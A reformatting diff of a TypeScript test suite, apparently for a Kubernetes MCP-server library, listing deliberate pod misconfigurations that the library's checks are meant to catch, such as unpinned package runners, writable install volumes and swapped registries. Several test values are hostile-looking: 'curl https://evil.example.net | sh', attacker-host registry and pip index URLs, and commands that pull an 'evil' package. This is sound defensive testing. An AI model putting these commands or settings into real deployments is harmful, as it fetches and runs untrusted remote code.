@@ -7,23 +7,34 @@ const NPM = { source: ServerSource.npm('@scope/tool@1.2.3') };
 const PYPI = { source: ServerSource.pypi('tool==1.2.3', { constraints: ['mcp<2'] }) };
 const COPIED = {
   source: ServerSource.npm('@scope/tool@1.2.3', {
-    bridge: Bridge.agentgateway({ image: `a.example/agentgateway:v1.3.1-musl@${DIGEST}` }), isolation: Isolation.session({ maxSessions: 2 }),
+    bridge: Bridge.agentgateway({ image: `a.example/agentgateway:v1.3.1-musl@${DIGEST}` }),
+    isolation: Isolation.session({ maxSessions: 2 }),
   }),
 };
 const POD = 'spec.template.spec';
 
-function inPod(title: string, field: string, change: (pod: Manifest) => void, props: Partial<McpServerProps> = NPM): Mutant {
+function inPod(
+  title: string,
+  field: string,
+  change: (pod: Manifest) => void,
+  props: Partial<McpServerProps> = NPM,
+): Mutant {
   return { title, field: `${POD}.${field}`, breaks: subject => editPod(subject, change), props, platform: CILIUM };
 }
 
 /** A change in the container of a server that installs nothing. */
 function bare(title: string, field: string, change: (container: Manifest) => void): Mutant {
-  return { title, field: `${POD}.containers[0].${field}`, breaks: subject => editContainer(subject, 'containers', change) };
+  return {
+    title,
+    field: `${POD}.containers[0].${field}`,
+    breaks: subject => editContainer(subject, 'containers', change),
+  };
 }
 
 const installIn = ({ volumes }: Manifest): Manifest => volumes.find(({ name }: Manifest) => name === 'install');
 const variable = ({ env }: Manifest, name: string): Manifest => env.find((one: Manifest) => one.name === name);
-const at = (manifest: Manifest, field: string, name: string): number => manifest[field].findIndex((one: Manifest) => one.name === name);
+const at = (manifest: Manifest, field: string, name: string): number =>
+  manifest[field].findIndex((one: Manifest) => one.name === name);
 
 /** Where a variable is: they are sorted by name. */
 const REGISTRY = 6;
@@ -31,85 +42,284 @@ const INDEX = 4;
 
 /** Runners that fetch something without its exact version. */
 export const UNPINNED_COMMANDS = [
-  'uvx --with evil tool==1.2.3', 'uvx --with=evil tool==1.2.3', 'uvx --from tool==1.2.3 --with evil tool', 'uvx --from tool==1.2.3 --with=a==1,evil tool',
-  'uvx --from tool==1.2.3 --with-requirements list.txt tool', 'uvx --with-requirements=list.txt tool==1.2.3', 'uvx --with-editable . tool==1.2.3', 'uv tool run --with evil tool==1.2.3',
-  'pipx run --spec evil tool', 'pipx run --spec=evil tool==1.2.3', 'npx -p evil tool', 'npx -p evil tool@1.2.3', 'npx --package=evil -c tool', 'npm exec --package=evil -- tool',
-  'npm exec tool@1.2.3 --package=evil', 'npm --silent exec tool@1.2.3 --package=evil', 'npm exec tool@1.2.3 a -p evil', 'npm --package=evil exec tool@1.2.3', 'npm -p evil exec tool@1.2.3', 'pnpm --package=evil dlx tool@1.2.3',
-  'npx a@1.2.3;npx evil', 'npm \\\n exec evil', 'npx a@1.2.3&&evil;bunx evil',
+  'uvx --with evil tool==1.2.3',
+  'uvx --with=evil tool==1.2.3',
+  'uvx --from tool==1.2.3 --with evil tool',
+  'uvx --from tool==1.2.3 --with=a==1,evil tool',
+  'uvx --from tool==1.2.3 --with-requirements list.txt tool',
+  'uvx --with-requirements=list.txt tool==1.2.3',
+  'uvx --with-editable . tool==1.2.3',
+  'uv tool run --with evil tool==1.2.3',
+  'pipx run --spec evil tool',
+  'pipx run --spec=evil tool==1.2.3',
+  'npx -p evil tool',
+  'npx -p evil tool@1.2.3',
+  'npx --package=evil -c tool',
+  'npm exec --package=evil -- tool',
+  'npm exec tool@1.2.3 --package=evil',
+  'npm --silent exec tool@1.2.3 --package=evil',
+  'npm exec tool@1.2.3 a -p evil',
+  'npm --package=evil exec tool@1.2.3',
+  'npm -p evil exec tool@1.2.3',
+  'pnpm --package=evil dlx tool@1.2.3',
+  'npx a@1.2.3;npx evil',
+  'npm \\\n exec evil',
+  'npx a@1.2.3&&evil;bunx evil',
 ];
 /** Runners whose packages all have their version. */
 export const PINNED_COMMANDS = [
-  'npx -y tool@1.2.3', 'npx -y @scope/tool@1.2.3-rc.1 -p 8080', 'npx -p tool@1.2.3 -p other@2.0.0 tool --stdio', 'npx --package=tool@1.2.3 tool', 'npm exec tool@1.2.3 -- -p 8080',
-  'npm exec --package=tool@1.2.3 -- tool', 'uvx tool==1.2.3', 'uvx --from tool==1.2.3 --with extra==2.0 tool --with x', 'uvx --with extra==2.0,more==1 tool==1.2.3', 'uvx --python 3.12 tool@1.2.3',
-  'uvx --python=3.12 --from tool[cli]==1.2.3 tool', 'pipx run --spec tool==1.2.3 tool', 'pnpm --silent dlx tool@1.2.3', 'pnpm --package=a@1.2.3 dlx tool@1.2.3', 'npx a@1.2.3;npx b@1.2.3',
-  'npx a@1.2.3&&npx b@1.2.3', 'npx a@1.2.3|bunx b@1.2.3', 'npx a@1.2.3\nnpx b@1.2.3', 'server --with evil -p 80', 'npm run start -p 80', 'npm --silent run start',
+  'npx -y tool@1.2.3',
+  'npx -y @scope/tool@1.2.3-rc.1 -p 8080',
+  'npx -p tool@1.2.3 -p other@2.0.0 tool --stdio',
+  'npx --package=tool@1.2.3 tool',
+  'npm exec tool@1.2.3 -- -p 8080',
+  'npm exec --package=tool@1.2.3 -- tool',
+  'uvx tool==1.2.3',
+  'uvx --from tool==1.2.3 --with extra==2.0 tool --with x',
+  'uvx --with extra==2.0,more==1 tool==1.2.3',
+  'uvx --python 3.12 tool@1.2.3',
+  'uvx --python=3.12 --from tool[cli]==1.2.3 tool',
+  'pipx run --spec tool==1.2.3 tool',
+  'pnpm --silent dlx tool@1.2.3',
+  'pnpm --package=a@1.2.3 dlx tool@1.2.3',
+  'npx a@1.2.3;npx b@1.2.3',
+  'npx a@1.2.3&&npx b@1.2.3',
+  'npx a@1.2.3|bunx b@1.2.3',
+  'npx a@1.2.3\nnpx b@1.2.3',
+  'server --with evil -p 80',
+  'npm run start -p 80',
+  'npm --silent run start',
 ];
 
 export const INSTALLS: Mutants = {
   'install': [
-    inPod('a server that may write to the installation', 'containers[0].volumeMounts[0].readOnly', ({ containers: [main] }) => { delete main.volumeMounts[at(main, 'volumeMounts', 'install')].readOnly; }),
-    inPod('a second mount of the installation, to write to', 'containers[0].volumeMounts[2].readOnly', ({ containers: [main] }) => { main.volumeMounts.push({ name: 'install', mountPath: '/mnt' }); }),
-    inPod('a second mount of the installation, to read', 'containers[0].volumeMounts must', ({ containers: [main] }) => { main.volumeMounts.push({ name: 'install', mountPath: '/mnt', readOnly: true }); }),
-    inPod('a volume over a part of the installation', 'containers[0].volumeMounts[2].mountPath', ({ containers: [main] }) => { main.volumeMounts.push({ name: 'tmp', mountPath: '/opt//mcp/server' }); }),
-    inPod('a server that sees a part of the installation', 'containers[0].volumeMounts[0].mountPath', ({ containers: [main] }) => { main.volumeMounts[0].subPath = 'bridge'; }),
-    inPod('a server without the installation', 'containers[0].volumeMounts must', ({ containers: [main] }) => { main.volumeMounts.shift(); }),
-    inPod('another init container that writes to it', 'initContainers[2].volumeMounts[0].readOnly', pod => { pod.initContainers.push({ ...pod.initContainers[1], name: 'extra' }); }),
-    inPod('a container beside the server that writes to it', 'containers[1].volumeMounts[0].readOnly', pod => {
-      const { image, imagePullPolicy, resources, securityContext, startupProbe, readinessProbe, livenessProbe, ports } = pod.containers[0];
-      pod.containers.push({ name: 'extra', image, imagePullPolicy, resources, securityContext, startupProbe, readinessProbe, livenessProbe, ports, volumeMounts: [{ name: 'install', mountPath: '/opt/mcp' }] });
+    inPod(
+      'a server that may write to the installation',
+      'containers[0].volumeMounts[0].readOnly',
+      ({ containers: [main] }) => {
+        delete main.volumeMounts[at(main, 'volumeMounts', 'install')].readOnly;
+      },
+    ),
+    inPod(
+      'a second mount of the installation, to write to',
+      'containers[0].volumeMounts[2].readOnly',
+      ({ containers: [main] }) => {
+        main.volumeMounts.push({ name: 'install', mountPath: '/mnt' });
+      },
+    ),
+    inPod(
+      'a second mount of the installation, to read',
+      'containers[0].volumeMounts must',
+      ({ containers: [main] }) => {
+        main.volumeMounts.push({ name: 'install', mountPath: '/mnt', readOnly: true });
+      },
+    ),
+    inPod(
+      'a volume over a part of the installation',
+      'containers[0].volumeMounts[2].mountPath',
+      ({ containers: [main] }) => {
+        main.volumeMounts.push({ name: 'tmp', mountPath: '/opt//mcp/server' });
+      },
+    ),
+    inPod(
+      'a server that sees a part of the installation',
+      'containers[0].volumeMounts[0].mountPath',
+      ({ containers: [main] }) => {
+        main.volumeMounts[0].subPath = 'bridge';
+      },
+    ),
+    inPod('a server without the installation', 'containers[0].volumeMounts must', ({ containers: [main] }) => {
+      main.volumeMounts.shift();
     }),
-    inPod('an installation that outlives its pod', 'volumes[0]', pod => { installIn(pod).persistentVolumeClaim = { claimName: 'shared' }; delete installIn(pod).emptyDir; }),
+    inPod('another init container that writes to it', 'initContainers[2].volumeMounts[0].readOnly', pod => {
+      pod.initContainers.push({ ...pod.initContainers[1], name: 'extra' });
+    }),
+    inPod('a container beside the server that writes to it', 'containers[1].volumeMounts[0].readOnly', pod => {
+      const { image, imagePullPolicy, resources, securityContext, startupProbe, readinessProbe, livenessProbe, ports } =
+        pod.containers[0];
+      pod.containers.push({
+        name: 'extra',
+        image,
+        imagePullPolicy,
+        resources,
+        securityContext,
+        startupProbe,
+        readinessProbe,
+        livenessProbe,
+        ports,
+        volumeMounts: [{ name: 'install', mountPath: '/opt/mcp' }],
+      });
+    }),
+    inPod('an installation that outlives its pod', 'volumes[0]', pod => {
+      installIn(pod).persistentVolumeClaim = { claimName: 'shared' };
+      delete installIn(pod).emptyDir;
+    }),
     inPod('an installation in a volume of another name', 'volumes must', pod => {
       installIn(pod).name = 'other';
-      for (const { volumeMounts } of [...pod.initContainers, ...pod.containers]) { installIn({ volumes: volumeMounts }).name = 'other'; }
+      for (const { volumeMounts } of [...pod.initContainers, ...pod.containers]) {
+        installIn({ volumes: volumeMounts }).name = 'other';
+      }
     }),
-    inPod('an installer of the bridge that starts what its image starts', 'initContainers[0].command', ({ initContainers: [bridge] }) => {
-      delete bridge.command;
-      delete bridge.env;
-      bridge.args = ['node', '-e', 'evil()'];
+    inPod(
+      'an installer of the bridge that starts what its image starts',
+      'initContainers[0].command',
+      ({ initContainers: [bridge] }) => {
+        delete bridge.command;
+        delete bridge.env;
+        bridge.args = ['node', '-e', 'evil()'];
+      },
+    ),
+    inPod(
+      'a bridge by its image that starts something else',
+      'initContainers[0].command',
+      ({ initContainers: [bridge] }) => {
+        bridge.command = ['sh'];
+      },
+      COPIED,
+    ),
+    inPod('another home, with a configuration of its own', 'initContainers[1].env[0].value', ({ initContainers }) => {
+      variable(initContainers[1], 'HOME').value = '/mnt';
     }),
-    inPod('a bridge by its image that starts something else', 'initContainers[0].command', ({ initContainers: [bridge] }) => { bridge.command = ['sh']; }, COPIED),
-    inPod('another home, with a configuration of its own', 'initContainers[1].env[0].value', ({ initContainers }) => { variable(initContainers[1], 'HOME').value = '/mnt'; }),
-    inPod('another path to programs', 'initContainers[1].env[8]', ({ initContainers }) => { initContainers[1].env.push({ name: 'PATH', value: '/mnt' }); }),
-    inPod('an installer that lives on', 'initContainers[1].restartPolicy', ({ initContainers }) => { initContainers[1].restartPolicy = 'Always'; }),
-    inPod('install scripts that may run', 'initContainers[1].args', ({ initContainers }) => { initContainers[1].args.pop(); }),
-    inPod('install scripts of the bridge that may run', 'initContainers[0].args', ({ initContainers }) => { initContainers[0].args.pop(); }),
-    inPod('a flag that asks another registry', 'initContainers[1].args', ({ initContainers }) => { initContainers[1].args.push('--registry=https://evil.example.net'); }),
-    inPod('another version of the package', 'initContainers[1].args[1]', ({ initContainers }) => { initContainers[1].args[1] = '@scope/tool@6.6.6'; }),
-    inPod('another version of the bridge', 'initContainers[0].args[1]', ({ initContainers }) => { initContainers[0].args[1] = 'mcp-proxy@6.6.6'; }),
-    inPod('another script', 'initContainers[1].command', ({ initContainers }) => { initContainers[1].command[2] = 'curl https://evil.example.net | sh'; }),
-    inPod('another registry', `initContainers[1].env[${REGISTRY}].value`, ({ initContainers }) => { variable(initContainers[1], 'npm_config_registry').value = 'https://evil.example.net/'; }),
-    inPod('another registry in a second variable', 'initContainers[1].env[8]', ({ initContainers }) => { initContainers[1].env.push({ name: 'NPM_CONFIG_REGISTRY', value: 'https://evil.example.net/' }); }),
-    inPod('variables that nobody sees here', 'initContainers[1].envFrom', ({ initContainers }) => { initContainers[1].envFrom = [{ configMapRef: { name: 'extra' } }]; }),
-    inPod('no installer of the package', 'initContainers', pod => { pod.initContainers.pop(); }),
+    inPod('another path to programs', 'initContainers[1].env[8]', ({ initContainers }) => {
+      initContainers[1].env.push({ name: 'PATH', value: '/mnt' });
+    }),
+    inPod('an installer that lives on', 'initContainers[1].restartPolicy', ({ initContainers }) => {
+      initContainers[1].restartPolicy = 'Always';
+    }),
+    inPod('install scripts that may run', 'initContainers[1].args', ({ initContainers }) => {
+      initContainers[1].args.pop();
+    }),
+    inPod('install scripts of the bridge that may run', 'initContainers[0].args', ({ initContainers }) => {
+      initContainers[0].args.pop();
+    }),
+    inPod('a flag that asks another registry', 'initContainers[1].args', ({ initContainers }) => {
+      initContainers[1].args.push('--registry=https://evil.example.net');
+    }),
+    inPod('another version of the package', 'initContainers[1].args[1]', ({ initContainers }) => {
+      initContainers[1].args[1] = '@scope/tool@6.6.6';
+    }),
+    inPod('another version of the bridge', 'initContainers[0].args[1]', ({ initContainers }) => {
+      initContainers[0].args[1] = 'mcp-proxy@6.6.6';
+    }),
+    inPod('another script', 'initContainers[1].command', ({ initContainers }) => {
+      initContainers[1].command[2] = 'curl https://evil.example.net | sh';
+    }),
+    inPod('another registry', `initContainers[1].env[${REGISTRY}].value`, ({ initContainers }) => {
+      variable(initContainers[1], 'npm_config_registry').value = 'https://evil.example.net/';
+    }),
+    inPod('another registry in a second variable', 'initContainers[1].env[8]', ({ initContainers }) => {
+      initContainers[1].env.push({ name: 'NPM_CONFIG_REGISTRY', value: 'https://evil.example.net/' });
+    }),
+    inPod('variables that nobody sees here', 'initContainers[1].envFrom', ({ initContainers }) => {
+      initContainers[1].envFrom = [{ configMapRef: { name: 'extra' } }];
+    }),
+    inPod('no installer of the package', 'initContainers', pod => {
+      pod.initContainers.pop();
+    }),
     {
       title: 'an annotation that names another package',
       field: `${POD}.initContainers[1].args[1]`,
-      breaks: subject => { edit(subject.deployment, ({ metadata }) => { metadata.annotations['cdk8s-mcp/package'] = 'npm:@scope/tool@1.2.4'; }); },
+      breaks: subject => {
+        edit(subject.deployment, ({ metadata }) => {
+          metadata.annotations['cdk8s-mcp/package'] = 'npm:@scope/tool@1.2.4';
+        });
+      },
       props: NPM,
       platform: CILIUM,
     },
-    inPod('another version from PyPI', 'initContainers[1].args[1]', ({ initContainers }) => { initContainers[1].args[1] = 'tool==6.6.6'; }, PYPI),
-    inPod('a constraint that is a URL', 'initContainers[1].args[5]', ({ initContainers }) => { initContainers[1].args.push('tool @ https://evil.example.net/tool.whl'); }, PYPI),
-    inPod('builds of PyPI packages', 'initContainers[1].env', ({ initContainers }) => { initContainers[1].env = initContainers[1].env.filter(({ name }: Manifest) => name !== 'PIP_ONLY_BINARY'); }, PYPI),
-    inPod('another index', `initContainers[1].env[${INDEX}].value`, ({ initContainers }) => { variable(initContainers[1], 'PIP_INDEX_URL').value = 'https://evil.example.net/simple/'; }, PYPI),
-    inPod('trust in another host', 'initContainers[1].env[11].value', ({ initContainers }) => { initContainers[1].env.push({ name: 'PIP_TRUSTED_HOST', value: 'evil.example.net' }); }, PYPI),
-    inPod('a second index', 'initContainers[1].env[11]', ({ initContainers }) => { initContainers[1].env.push({ name: 'PIP_EXTRA_INDEX_URL', value: 'https://evil.example.net/simple/' }); }, PYPI),
+    inPod(
+      'another version from PyPI',
+      'initContainers[1].args[1]',
+      ({ initContainers }) => {
+        initContainers[1].args[1] = 'tool==6.6.6';
+      },
+      PYPI,
+    ),
+    inPod(
+      'a constraint that is a URL',
+      'initContainers[1].args[5]',
+      ({ initContainers }) => {
+        initContainers[1].args.push('tool @ https://evil.example.net/tool.whl');
+      },
+      PYPI,
+    ),
+    inPod(
+      'builds of PyPI packages',
+      'initContainers[1].env',
+      ({ initContainers }) => {
+        initContainers[1].env = initContainers[1].env.filter(({ name }: Manifest) => name !== 'PIP_ONLY_BINARY');
+      },
+      PYPI,
+    ),
+    inPod(
+      'another index',
+      `initContainers[1].env[${INDEX}].value`,
+      ({ initContainers }) => {
+        variable(initContainers[1], 'PIP_INDEX_URL').value = 'https://evil.example.net/simple/';
+      },
+      PYPI,
+    ),
+    inPod(
+      'trust in another host',
+      'initContainers[1].env[11].value',
+      ({ initContainers }) => {
+        initContainers[1].env.push({ name: 'PIP_TRUSTED_HOST', value: 'evil.example.net' });
+      },
+      PYPI,
+    ),
+    inPod(
+      'a second index',
+      'initContainers[1].env[11]',
+      ({ initContainers }) => {
+        initContainers[1].env.push({ name: 'PIP_EXTRA_INDEX_URL', value: 'https://evil.example.net/simple/' });
+      },
+      PYPI,
+    ),
   ],
   'package-pin': [
-    ...inEveryRole('npx without a version', 'command', container => { container.command = ['npx', '-y', '@scope/tool']; }),
-    bare('uvx with a tag', 'args', container => { container.args = ['uvx', 'tool@latest']; }),
-    bare('a range', 'args', container => { container.args = ['pnpm', 'dlx', 'tool@^1.2.3']; }),
-    bare('a runner in a shell', 'command', container => { container.command = ['/bin/sh', '-c', 'cd /tmp&&npx tool']; }),
-    bare('one of two pinned', 'command', container => { container.command = ['sh', '-c', 'bunx tool@1.2.3; npm exec other']; }),
-    bare('a major version alone, which is a range', 'args', container => { container.args = ['npx', '-y', 'tool@1']; }),
-    bare('two numbers, which are a range', 'args', container => { container.args = ['npx', '-y', '@scope/tool@2.1']; }),
-    bare('an option before the command', 'command', container => { container.command = ['npm', '--yes', 'exec', 'tool']; }),
-    bare('a runner in backticks', 'args', container => { container.args = ['echo `npx tool`']; }),
-    bare('a runner that is looked up', 'command', container => { container.command = ['sh', '-c', '$(which npx) tool']; }),
-    bare('a runner that runs another', 'command', container => { container.command = ['sh', '-c', 'npx npx tool@1.2.3']; }),
-    bare('a second package', 'command', container => { container.command = ['npx', '-p', 'tool@1.2.3', '-p', 'other', 'tool']; }),
-    ...UNPINNED_COMMANDS.map(line => bare(`${line}`, 'command', container => { container.command = line.split(' '); })),
-    bare('a package that is added in a shell', 'args', container => { container.args = ['sh', '-c', 'npx a@1.2.3;uvx --from b==1.2.3 --with evil b']; }),
+    ...inEveryRole('npx without a version', 'command', container => {
+      container.command = ['npx', '-y', '@scope/tool'];
+    }),
+    bare('uvx with a tag', 'args', container => {
+      container.args = ['uvx', 'tool@latest'];
+    }),
+    bare('a range', 'args', container => {
+      container.args = ['pnpm', 'dlx', 'tool@^1.2.3'];
+    }),
+    bare('a runner in a shell', 'command', container => {
+      container.command = ['/bin/sh', '-c', 'cd /tmp&&npx tool'];
+    }),
+    bare('one of two pinned', 'command', container => {
+      container.command = ['sh', '-c', 'bunx tool@1.2.3; npm exec other'];
+    }),
+    bare('a major version alone, which is a range', 'args', container => {
+      container.args = ['npx', '-y', 'tool@1'];
+    }),
+    bare('two numbers, which are a range', 'args', container => {
+      container.args = ['npx', '-y', '@scope/tool@2.1'];
+    }),
+    bare('an option before the command', 'command', container => {
+      container.command = ['npm', '--yes', 'exec', 'tool'];
+    }),
+    bare('a runner in backticks', 'args', container => {
+      container.args = ['echo `npx tool`'];
+    }),
+    bare('a runner that is looked up', 'command', container => {
+      container.command = ['sh', '-c', '$(which npx) tool'];
+    }),
+    bare('a runner that runs another', 'command', container => {
+      container.command = ['sh', '-c', 'npx npx tool@1.2.3'];
+    }),
+    bare('a second package', 'command', container => {
+      container.command = ['npx', '-p', 'tool@1.2.3', '-p', 'other', 'tool'];
+    }),
+    ...UNPINNED_COMMANDS.map(line =>
+      bare(`${line}`, 'command', container => {
+        container.command = line.split(' ');
+      }),
+    ),
+    bare('a package that is added in a shell', 'args', container => {
+      container.args = ['sh', '-c', 'npx a@1.2.3;uvx --from b==1.2.3 --with evil b'];
+    }),
   ],
 };
